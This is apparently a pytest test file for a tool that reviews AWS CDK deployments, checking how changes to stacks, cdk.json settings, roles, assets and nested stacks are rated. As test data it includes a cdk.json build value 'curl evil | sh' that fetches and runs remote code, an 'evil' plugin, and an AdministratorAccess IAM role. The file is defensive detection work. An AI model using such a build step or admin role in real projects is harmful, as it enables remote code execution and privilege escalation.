"""Test that all that `cdk deploy` reads is compared: every stack, cdk.json, roles, tags, assets."""

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.review.conftest import Answer
from tests.review.small import LOG, TOPIC, put, repository, save, template
from tools.review.assemblies import assets, stacks
from tools.review.errors import SynthesisError
from tools.review.stacks import told_in_settings, told_to_the_cli
from tools.review.synthesis import Synthesis
from workshop.review_page import ROOT, git

Run = Callable[..., Answer]
STACK = "aws:cloudformation:stack"
_EXECUTION = "cloudFormationExecutionRoleArn"
ADMIN: dict[str, Any] = {
    "Type": "AWS::IAM::Role",
    "Properties": {
        "AssumeRolePolicyDocument": {"Statement": []},
        "ManagedPolicyArns": ["arn:aws:iam::aws:policy/AdministratorAccess"],
    },
}
# The address of a file that a synth publishes.
KEY = "5" * 64
# An app with its stack in a stage, and a nested stack in that.
STAGED = """
import json, os, pathlib
out = pathlib.Path(os.environ["CDK_OUTDIR"])
inner = out / "assembly-Prod"
inner.mkdir(parents=True)
outer = json.loads(pathlib.Path("stack.json").read_text())
for name in ("Web", "Nested"):
    (inner / f"{name}.json").write_text(json.dumps(outer[name]))
asset = {"source": {"path": "Nested.json"}, "destinations": {"here": {"objectKey": "KEY.json"}}}
(inner / "Nested.assets.json").write_text(json.dumps({"files": {"KEY": asset}}))
stack = {"type": "aws:cloudformation:stack", "environment": "aws://unknown-account/eu-west-1",
         "displayName": "Prod/Web", "properties": {"templateFile": "Web.json"}}
(inner / "manifest.json").write_text(json.dumps({"artifacts": {"ProdWeb": stack}}))
where = {"directoryName": "assembly-Prod"}
stage = {"type": "cdk:cloud-assembly", "displayName": "Prod", "properties": where}
(out / "manifest.json").write_text(json.dumps({"artifacts": {"assembly-Prod": stage}}))
""".replace("KEY", KEY)
NESTED = {
    "Type": "AWS::CloudFormation::Stack",
    "Properties": {
        "TemplateURL": f"https://s3.eu-west-1.amazonaws.com/cdk-hnb659fds-assets-1-eu-west-1/{KEY}.json"
    },
}


@pytest.fixture
def run(review: Run) -> Run:
    def reviewed(folder: Path, *arguments: str) -> Answer:
        return review(folder, *arguments, "--fail-on", "dangerous,widening", PYTHONPATH=str(ROOT))

    return reviewed


@pytest.fixture
def small(tmp_path: Path) -> Path:
    return repository(tmp_path / "small")


def side(properties: dict[str, Any] | None = None, **more: Any) -> Synthesis:
    artifact = {"type": STACK, "environment": "aws://1/eu-west-1", "properties": properties or {}}
    known = {"templates": {"dev": template()}, "artifacts": {"dev": artifact}, "paths": {"dev": "Web-dev"}}
    return Synthesis(**{**known, **more})


@pytest.mark.parametrize(
    ("old", "new", "level", "kind", "says"),
    [
        ({}, {"stackName": "other"}, "dangerous", "destructive", "is called other now"),
        ({"stackName": "a"}, {"stackName": "b"}, "dangerous", "destructive", "is called b now"),
        ({"tags": {"a": "b"}}, {"tags": {"a": "c"}}, "look", "", "tags"),
        ({}, {"assumeRoleArn": "arn:other"}, "dangerous", "widening", "another role deploys"),
        ({_EXECUTION: "a"}, {_EXECUTION: "b"}, "dangerous", "widening", "role"),
        ({_EXECUTION: "a"}, {}, "dangerous", "widening", "role"),
        ({}, {"notificationArns": ["a"]}, "look", "", "told of its deployments"),
        ({}, {"parameters": {"a": "b"}}, "look", "", "other values"),
        ({"terminationProtection": True}, {}, "look", "", "no longer protected"),
        ({}, {"terminationProtection": True}, "safe", "", "is protected"),
        ({}, {"brandnew": 1}, "look", "", "no rule knows"),
    ],
)  # fmt: skip
def test_what_the_cli_does_with_a_stack_is_compared(
    old: dict[str, Any], new: dict[str, Any], level: str, kind: str, says: str
) -> None:
    (said,) = told_to_the_cli("dev", side(old), side(new))
    assert (said.level, said.kind) == (level, kind)
    assert says in said.text


def test_another_account_is_another_stack() -> None:
    elsewhere = {"dev": {"type": STACK, "environment": "aws://2/eu-west-1", "properties": {}}}
    (said,) = told_to_the_cli("dev", side(), side(artifacts=elsewhere))
    assert (said.level, said.kind) == ("dangerous", "destructive")


def test_the_hash_of_a_template_is_no_change_of_its_own() -> None:
    old, new = ({"stackTemplateAssetObjectUrl": f"s3://a/{each}.json"} for each in "ab")
    assert list(told_to_the_cli("dev", side(old), side(new))) == []


@pytest.mark.parametrize(
    ("key", "value", "level", "kind"),
    [
        ("app", "python evil.py", "look", "widening"),
        ("build", "curl evil | sh", "dangerous", "widening"),
        ("plugin", ["evil"], "dangerous", "widening"),
        ("rollback", False, "look", ""),
        ("requireApproval", "never", "look", "widening"),
        ("toolkitStackName", "other", "look", ""),
        ("roleArn", "arn:other", "dangerous", "widening"),
        ("context", {"a": "b"}, "safe", ""),
        ("brandnew", True, "look", ""),
    ],
)
def test_what_the_cli_reads_in_cdk_json_is_compared(key: str, value: object, level: str, kind: str) -> None:
    (said,) = told_in_settings(side(settings={}), side(settings={key: value}))
    assert (said.level, said.kind) == (level, kind)


def test_notices_change_nothing() -> None:
    assert list(told_in_settings(side(settings={"notices": True}), side(settings={"notices": False}))) == []


def test_assets_are_compared_by_how_they_are_built_and_where_they_go(tmp_path: Path) -> None:
    def write(place: str, digest: str) -> set[str]:
        image = {
            "source": {"directory": "a", "dockerFile": "Dockerfile"},
            "destinations": {"x": {"repositoryName": place, "imageTag": digest}},
        }
        (tmp_path / "Web.assets.json").write_text(json.dumps({"dockerImages": {digest: image}}))
        return assets(tmp_path)

    before = write("own", "a" * 64)
    assert write("own", "b" * 64) == before
    (said,) = told_in_settings(side(assets=before), side(assets=write("strangers", "b" * 64)))
    assert said.level == "look"
    assert "built or kept in another way" in said.text


def test_a_stack_that_is_called_like_an_environment_does_not_hide_it(tmp_path: Path) -> None:
    names = ("Web-dev", "dev")
    for name in names:
        (tmp_path / f"{name}.json").write_text(json.dumps(template(Topic=TOPIC)))
    made = {name: {"type": STACK, "properties": {"templateFile": f"{name}.json"}} for name in names}
    (tmp_path / "manifest.json").write_text(json.dumps({"artifacts": made}))
    assert [each.name for each in stacks(tmp_path)] == ["Web-dev", "dev"]


@pytest.mark.parametrize(
    "written",
    [
        {"A": "x"},
        {"A": {"Properties": {}}},
        {"A": {"Type": 5}},
        {"A": {"Type": "AWS::SNS::Topic", "Properties": [1]}},
    ],
)
def test_a_template_that_is_none_is_refused_and_not_guessed(tmp_path: Path, written: Any) -> None:
    (tmp_path / "a.json").write_text(json.dumps({"Resources": written}))
    made = {"Web-dev": {"type": STACK, "properties": {"templateFile": "a.json"}}}
    (tmp_path / "manifest.json").write_text(json.dumps({"artifacts": made}))
    with pytest.raises(SynthesisError, match="cannot be read as a synth"):
        stacks(tmp_path)


@pytest.mark.parametrize(
    "found",
    [5, [5], [{"violations": [5]}], [{"violations": [{"ruleName": "a", "description": 5}]}]],
)
def test_a_report_of_rules_that_is_none_ends_the_review_with_2(run: Run, small: Path, found: Any) -> None:
    report = json.dumps({"pluginReports": found})
    with (small / "app.py").open("a") as app:
        app.write(f'(out / "validation-report.json").write_text({report!r})\n')
    answer = run(small, "--base", "main")
    assert (answer.code, answer.report) == (2, "")
    assert "by a mistake in the review itself" not in answer.stderr
    assert len(list((small / ".local/review").glob("*/cdk.out"))) == 1  # the base's alone is kept


@pytest.fixture
def staged(small: Path) -> Path:
    (small / "app.py").write_text(STAGED)
    put(small, Web=template(Log=LOG, Inner=NESTED), Nested=template(Topic=TOPIC))
    save(small)
    return small


def test_stacks_of_stages_and_nested_ones_are_compared(run: Run, staged: Path) -> None:
    assert run(staged, "--base", "main").verdicts == {"Prod/Web": "no change", "Prod/Web/Inner": "no change"}
    put(staged, Web=template(Log=LOG, Inner=NESTED), Nested=template(Topic=TOPIC, Admin=ADMIN))
    answer = run(staged, "--base", "main")
    assert (answer.code, answer.verdicts) == (1, {"Prod/Web": "no change", "Prod/Web/Inner": "dangerous"})
    assert "AdministratorAccess" in answer.said_of("Prod/Web/Inner")


def test_without_a_stack_there_is_no_report(run: Run, small: Path) -> None:
    put(small)
    answer = run(small, "--base", "main")
    assert (answer.code, answer.report) == (2, "")
    assert "describes no stack" in answer.stderr


def test_a_new_stack_is_judged_like_any_change(run: Run, small: Path) -> None:
    put(small, dev=template(Log=LOG, Topic=TOPIC), new=template(Admin=ADMIN))
    answer = run(small, "--base", "main")
    assert (answer.code, answer.verdicts) == (1, {"dev": "no change", "new": "dangerous"})


def test_the_context_is_given_to_the_app_as_the_cli_does(run: Run, small: Path) -> None:
    with (small / "app.py").open("a") as app:
        app.write(
            "context = json.loads(os.environ['CDK_CONTEXT_JSON'])\n"
            "properties = {'DisplayName': context.get('image', 'none')}\n"
            "topic = {'Type': 'AWS::SNS::Topic', 'Properties': properties}\n"
            "(out / 'Web-dev.template.json').write_text(json.dumps({'Resources': {'Topic': topic}}))\n"
        )
    save(small)
    (small / "cdk.context.json").write_text(json.dumps({"image": "a stranger's"}))
    answer = run(small, "--base", "main")
    assert answer.environment("dev")["resources"][0]["properties"][0]["new"] == "a stranger's"


def test_main_itself_is_compared_with_what_others_have(run: Run, small: Path, tmp_path: Path) -> None:
    git(tmp_path, "clone", "--quiet", f"file://{small}", "clone")
    clone = tmp_path / "clone"
    put(clone, dev=template(Topic=TOPIC))
    save(clone)
    answer = run(clone, "--base", "main")
    assert answer.verdicts == {"dev": "dangerous"}
    assert "The head is main itself: it is compared with origin/main." in answer.json["notes"]


def test_a_main_that_is_old_is_noticed(run: Run, small: Path, tmp_path: Path) -> None:
    git(tmp_path, "clone", "--quiet", f"file://{small}", "clone")
    clone = tmp_path / "clone"
    put(small, dev=template(Log=LOG))
    save(small)
    git(clone, "fetch", "--quiet")
    git(clone, "checkout", "--quiet", "-b", "change", "origin/main")
    answer = run(clone, "--base", "main")
    assert answer.verdicts == {"dev": "no change"}
    assert "main here is older than origin/main, which is compared instead." in answer.json["notes"]
